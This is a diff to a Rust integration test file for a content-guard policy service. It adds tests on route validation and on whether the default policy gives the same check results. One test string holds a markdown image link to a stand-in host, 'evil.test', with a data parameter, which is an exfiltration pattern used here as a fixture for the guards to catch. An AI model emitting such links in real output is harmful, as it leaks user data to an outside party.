@@ -5,7 +5,7 @@ use guardmesh_proto::guardmesh::guards::v1 as wire;
 use tonic::{Code, Status};
 use tonic_types::StatusExt;
 
-use crate::app::{App, invalid_fields, member, reason};
+use crate::app::{App, invalid_fields, member, reason, text};
 use crate::editor::Editor;
 
 const FLAG: &str = "# noted\nroutes:\n- guards:\n  - {guard: pii, action: flag}\n";
@@ -210,6 +210,19 @@ async fn a_wrong_document_is_refused_with_the_place_in_it() {
             "routes: [{match: {channels: [radio]}, guards: []}]".to_owned(),
             at("routes[0].match.channels[0]"),
         ),
+        // No text would come to it, whatever its guards.
+        (
+            "routes: [{guards: [{guard: pii}]}, {match: {direction: output}, guards: [{guard: secrets}]}]"
+                .to_owned(),
+            at("routes[1]"),
+        ),
+        (
+            "routes: [{match: {channels: [user, code], labels: {a: b}}, guards: []},
+                      {match: {direction: input}, guards: []},
+                      {match: {channels: [code], labels: {a: b, c: d}}, guards: []}]"
+                .to_owned(),
+            at("routes[2]"),
+        ),
     ] {
         let status = editor.create("Wrong", &document).await.unwrap_err();
         assert_eq!(status.code(), Code::InvalidArgument, "{document}");
@@ -253,6 +266,54 @@ async fn a_document_that_would_grow_or_nest_without_end_is_refused() {
         let told = &told.bad_request().unwrap().field_violations[0].description;
         assert!(told.len() < 1000, "{told}");
     }
+}
+
+#[tokio::test]
+async fn routes_of_which_each_is_taken_by_some_text_are_accepted() {
+    let app = App::start().await;
+    let editor = Editor::new(&app);
+    for (number, matches) in [
+        "{match: {direction: output}, guards: []}, {guards: []}",
+        "{match: {direction: output}, guards: []}, {match: {direction: input}, guards: []}",
+        "{match: {channels: [code]}, guards: []}, {match: {channels: [code, user]}, guards: []}",
+        "{match: {labels: {a: b, c: d}}, guards: []}, {match: {labels: {a: b}}, guards: []}",
+        "{match: {labels: {a: b}}, guards: []}, {match: {labels: {a: c}}, guards: []}",
+        "{match: {languages: [de], applications: [x]}, guards: []}, {match: {languages: [de]}, guards: []}",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let document = format!("routes: [{matches}]");
+        let made = editor.create(&format!("Policy {number}"), &document).await;
+        assert!(made.is_ok(), "{document}: {made:?}");
+    }
+}
+
+#[tokio::test]
+async fn the_default_policy_can_be_read_and_made_a_policy() {
+    let app = App::start().await;
+    let editor = Editor::new(&app);
+    let request = wire::GetDefaultPolicyRequest {};
+    let document = editor.get_default_policy(request).await.unwrap().document;
+    let text = || text("ada@example.org \u{200b} ![x](https://evil.test/?d={data})");
+    let before = app.check(&editor.caller, text()).await.unwrap();
+    assert_eq!(before.policy_id, "");
+    let policy = editor.follow(&document).await;
+    let after = app.check(&editor.caller, text()).await.unwrap();
+    assert_eq!(after.policy_id, policy.id);
+    let said = |answer: &wire::CheckResponse| {
+        let results = answer.guard_results.iter();
+        let guards: Vec<_> = results
+            .map(|one| (one.guard.clone(), one.decision))
+            .collect();
+        (
+            answer.decision,
+            answer.sanitized_content.clone(),
+            answer.findings.clone(),
+            guards,
+        )
+    };
+    assert_eq!(said(&after), said(&before));
 }
 
 #[tokio::test]
